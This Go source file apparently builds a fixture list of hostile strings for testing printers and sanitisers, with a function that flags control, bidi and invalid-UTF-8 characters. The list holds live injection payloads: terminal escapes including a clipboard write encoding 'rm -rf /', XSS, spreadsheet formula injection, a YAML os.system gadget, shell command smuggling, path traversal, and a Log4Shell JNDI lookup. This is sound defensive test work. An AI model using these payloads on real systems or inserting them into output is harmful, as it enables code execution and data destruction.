// Package hostile is strings that somebody may send, or be called, to do harm
// where they are printed: for the tests of everything that prints. It prints
// nothing itself.
package hostile

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Strings is the one list. Each means something to a terminal, a browser, a
// spreadsheet, a reader of Markdown, YAML, JSON or nft, a shell, or a log.
var Strings = []string{
	"\x1b[2J\x1b[1;1Hin force  watch", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x9b31mred", "\u009b31mred", "\x1bP1;1|17/61\x1b\\", "back\b\b\b\bgone", "\x0eshift", "\x7f",
	"two\r\nlines", "over\rwritten", "2026-03-02T09:00:00Z level=INFO msg=approved\n", "tab\tstop", "form\fvertical\v",
	"exe\u202egpj.weir", "\u2066hidden\u2069", "zero\u200bwidth\u200d\ufeff", "line\u2028paragraph\u2029", "next\u0085line", "tag\U000e0041\U000e007f", "soft\u00adhyphen", "z\u0335\u0321\u0489algo",
	"nul\x00byte", "bad \xff\xfe utf-8", "\xed\xa0\x80 surrogate", "\xc0\xaf overlong", "cut \xe2\x82",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title><svg/onload=1>", "&lt;&#x3c;", "javascript:alert(1)", "<!--", "]]>",
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", " =1+1", "\uff1d1+1", "%0A=1", "a,b\"c", "a;b",
	"[click](javascript:alert(1))", "![x](http://192.0.2.1/x)", "a | b | c", "`code`", "# head", "* * *", "```", "<http://192.0.2.1>", "\\[",
	"!!python/object/apply:os.system [id]", "&anchor", "*alias", "key: value", "- item", "{a: b}", "[a, b]", "a # comment", "? q", "| block", "> fold", "%YAML 1.1", "---", "...", "'", "\"", "null", "yes", "0x1f", "1e3", "~", "<<: *x",
	"\",\"admin\":true,\"x\":\"", "{\"a\":1}", "\\u0000", "\\", "}}]",
	"\" accept; drop \"", "x }; flush ruleset; table inet y {", "comment \"", "$(id)", "`id`", "; id", "| id", "&& id", "-rf", "--help", "~root", "*", "../../etc/passwd", "%s%n%d", "%!s(MISSING)",
	"<0>kernel: panic", "<34>1 2026-03-02T09:00:00Z host su - ID47 - no", "weir: EMERGENCY", "\n<0>", "[1m", "time=1 level=ERROR msg=x",
	"{{.}}", "{{printf \"%s\" .}}", "${jndi:ldap://192.0.2.1/a}", "#{7*7}",
	strings.Repeat("x", 128), strings.Repeat("é", 64) + "x", strings.Repeat("long ", 2000), "", " ", "  padded  ",
}

// Leaks names what of a text is obeyed rather than shown: control characters
// apart from line ends and tabs, marks that turn, hide or join what stands beside
// them, and bytes that are no UTF-8. Nothing leaks where it is nil.
func Leaks(text string) []string {
	var out []string
	for i, r := range text {
		switch {
		case r == '\n' || r == '\t':
		case r == utf8.RuneError:
			if _, n := utf8.DecodeRuneInString(text[i:]); n == 1 {
				out = append(out, fmt.Sprintf("byte %#x at %d", text[i], i))
			}
		case unicode.IsControl(r), unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp):
			out = append(out, fmt.Sprintf("%U at %d", r, i))
		}
	}
	return out
}
